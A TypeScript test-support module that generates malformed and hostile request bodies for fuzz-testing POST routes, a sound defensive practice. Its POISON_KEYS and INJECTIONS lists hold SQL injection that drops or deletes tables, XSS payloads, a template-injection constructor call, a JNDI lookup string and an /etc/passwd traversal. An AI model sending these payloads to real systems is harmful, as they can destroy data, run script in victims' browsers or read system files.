/**
 * Test support: fast-check generators of bad request bodies for the POST routes' fuzz test: wrong types,
 * huge and odd unicode strings, prototype keys, SQL/HTML/template injection, deep nesting, broken JSON.
 */
import fc from 'fast-check';

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Keys that reach for the prototype, or that a naive store might interpret. */
export const POISON_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  "'; DROP TABLE leads; --",
  '<script>alert(1)</script>',
  '${7*7}',
  '\u0000',
  '🚗',
  '',
] as const;

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE leads; --",
  '1); DELETE FROM outbox; --',
  "Robert'); SELECT pg_sleep(10); --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://example.invalid/a}',
  '../../../../etc/passwd',
  '\u202e\u0000\ud800',
  'NaN',
  'undefined',
  'null',
] as const;

/** A plain object that really owns `key` (even `__proto__`), so JSON.stringify writes it. */
export function withKey(target: Record<string, Json>, key: string, value: Json): Record<string, Json> {
  const copy: Record<string, Json> = {};
  for (const [name, existing] of Object.entries(target)) Object.defineProperty(copy, name, own(existing));
  Object.defineProperty(copy, key, own(value));
  return copy;
}

const own = (value: Json): PropertyDescriptor => ({ value, enumerable: true, writable: true, configurable: true });

function nested(depth: number, kind: 'array' | 'object'): Json {
  let value: Json = 1;
  for (let level = 0; level < depth; level += 1) value = kind === 'array' ? [value] : { a: value };
  return value;
}

export const poisonKey = fc.constantFrom<string>(...POISON_KEYS);
export const injection = fc.constantFrom<string>(...INJECTIONS);

/** 5 KB to 300 KB, ASCII or multi-byte. */
export const hugeString = fc
  .tuple(fc.constantFrom(5_000, 40_000, 70_000, 300_000), fc.constantFrom('x', 'é', '🚗', '<'))
  .map(([length, unit]) => unit.repeat(length));

export const oddString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  injection,
  hugeString,
);

export const deepValue = fc
  .tuple(fc.integer({ min: 20, max: 1_500 }), fc.constantFrom<'array' | 'object'>('array', 'object'))
  .map(([depth, kind]) => nested(depth, kind));

/** Any value that is the wrong shape for most fields. */
export const wrongValue: fc.Arbitrary<Json> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom<Json>(true, false, null, 0, -1, 1e308, [], {}),
  oddString,
  fc.array(fc.oneof(fc.integer(), injection), { maxLength: 4 }),
  fc.dictionary(fc.oneof(poisonKey, fc.string({ maxLength: 8 })), fc.oneof(fc.integer(), injection), { maxKeys: 3 }),
  deepValue,
);

/** A JSON body: a valid-looking base with one or more mutations, or whole-body garbage. */
export function mutatedBody(base: Record<string, Json>): fc.Arbitrary<Json> {
  const keys = Object.keys(base);
  const unknownKey = fc.tuple(poisonKey, wrongValue).map(([key, value]) => withKey(base, key, value) as Json);
  const wrongType = fc
    .tuple(fc.constantFrom(...keys), wrongValue)
    .map(([key, value]) => withKey(base, key, value) as Json);
  const missing = fc.constantFrom(...keys).map((key) => {
    const copy = { ...base };
    delete copy[key];
    return copy as Json;
  });
  const nestedPoison = fc
    .tuple(fc.constantFrom(...keys), poisonKey, wrongValue)
    .map(([key, inner, value]) => withKey(base, key, withKey({}, inner, value)) as Json);
  return fc.oneof(
    { arbitrary: unknownKey, weight: 3 },
    { arbitrary: wrongType, weight: 3 },
    { arbitrary: missing, weight: 1 },
    { arbitrary: nestedPoison, weight: 2 },
    { arbitrary: fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>, weight: 2 },
    { arbitrary: deepValue, weight: 1 },
  );
}

export interface RawBody {
  text: string;
  contentType: string;
}

/** Bodies that are not JSON objects at all: broken text, wrong content types, deeply nested text. */
export const rawGarbage: fc.Arbitrary<RawBody> = fc.oneof(
  fc.record({ text: fc.string({ unit: 'binary', maxLength: 200 }), contentType: fc.constant('application/json') }),
  fc.record({ text: injection, contentType: fc.constantFrom('application/json', 'text/plain', 'text/html') }),
  fc
    .integer({ min: 100, max: 20_000 })
    .map((depth) => ({ text: `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`, contentType: 'application/json' })),
  fc
    .integer({ min: 100, max: 20_000 })
    .map((depth) => ({ text: `${'['.repeat(depth)}${']'.repeat(depth - 1)}`, contentType: 'application/json' })),
  fc.record({
    text: fc.constantFrom('{"a":1,}', '{a:1}', "{'a':1}", '{"a":1}{"b":2}', '\uFEFF{"a"', ''),
    contentType: fc.constant('application/json'),
  }),
);

/** Mutated JSON (serialised) or raw garbage. */
export function badBody(base: Record<string, Json>): fc.Arbitrary<RawBody> {
  return fc.oneof(
    {
      arbitrary: mutatedBody(base).map((value) => ({ text: JSON.stringify(value), contentType: 'application/json' })),
      weight: 4,
    },
    { arbitrary: rawGarbage, weight: 1 },
  );
}
